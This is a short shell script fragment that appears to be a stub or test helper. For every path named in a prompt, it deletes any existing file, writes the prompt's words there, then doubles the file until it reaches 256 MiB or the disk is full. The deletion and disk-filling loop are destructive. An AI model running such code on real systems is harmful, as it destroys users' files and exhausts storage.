# writes a huge file (the prompt and its words, doubled up to 256 MiB or a full disk) at every path the prompt names
prompt_paths | while IFS= read -r p; do
	[ -d "$p" ] && continue
	parent_of "$p"
	rm -f "$p"
	words_file "$p"
	[ -s "$p" ] || continue
	i=0
	while [ $i -lt 28 ] && [ "$(wc -c < "$p")" -lt 268435456 ]; do
		cat "$p" "$p" > "$p.2" 2>/dev/null || { rm -f "$p.2"; break; }
		mv "$p.2" "$p"
		i=$((i + 1))
	done
done
exit 0
